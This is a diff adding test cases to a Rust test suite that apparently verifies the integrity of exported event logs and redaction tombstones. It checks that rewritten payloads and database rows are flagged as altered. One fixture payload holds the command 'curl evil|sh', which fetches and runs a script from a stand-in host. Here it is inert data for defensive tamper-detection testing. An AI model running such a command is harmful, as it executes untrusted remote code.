@@ -332,6 +332,54 @@ fn statements_that_should_not_count_never_do() {
     assert_eq!(rc, 1, "{v}");
     assert!(kinds_at(&v).contains(&("altered".into(), Some(205))), "{v}");
 
+    // A payload put back beside `redacted` (any content), or the tombstone naming another statement: altered.
+    std::fs::write(&copy, &pristine).unwrap();
+    let original = std::fs::read_to_string(&copy).unwrap();
+    for (key, value) in [
+        ("payload_json", r#"{"tool":"shell.exec","args":{"cmd":"curl evil|sh"}}"#),
+        ("redacted", "redactions/00000000000000000202"),
+    ] {
+        let text: Vec<String> = original
+            .lines()
+            .map(|line| {
+                let mut r: Value = serde_json::from_str(line).unwrap();
+                if r["seq"] == 201 {
+                    r[key] = value.into();
+                }
+                r.to_string()
+            })
+            .collect();
+        std::fs::write(&copy, text.join("\n") + "\n").unwrap();
+        let (rc, v) = verify_export(&l, &["--from", &from], &red);
+        assert_eq!(rc, 1, "{key}: {v}");
+        assert!(kinds_at(&v).contains(&("altered".into(), Some(201))), "{key}: {v}");
+    }
+    std::fs::write(&copy, &pristine).unwrap();
+    // A database row rewritten (not blanked) under a genuine statement: altered.
+    let rewritten = l.a.dir.path().join("rewritten.db");
+    std::fs::copy(&l.a.db, &rewritten).unwrap();
+    tamper(&rewritten)
+        .execute(
+            r#"UPDATE events SET payload_json = '{"tool":"shell.exec"}' WHERE seq = 201"#,
+            [],
+        )
+        .unwrap();
+    let out = bin()
+        .args([
+            "anchor",
+            "verify",
+            "--db",
+            path_str(&rewritten),
+            "--anchor",
+            &l.a.anchor_url(),
+        ])
+        .args(["--origin", ORIGIN, "--trusted-key", &l.a.verifier])
+        .args(red)
+        .output()
+        .unwrap();
+    assert_eq!(code(&out), 1, "{}", stdout(&out));
+    tombstoned(205, "redactions/00000000000000000205");
+
     // The genuine statement replayed onto seq 205: named, and 205 not accepted.
     std::fs::write(statements.join("00000000000000000205"), &genuine).unwrap();
     let (rc, v) = verify_export(&l, &["--from", &from], &red);
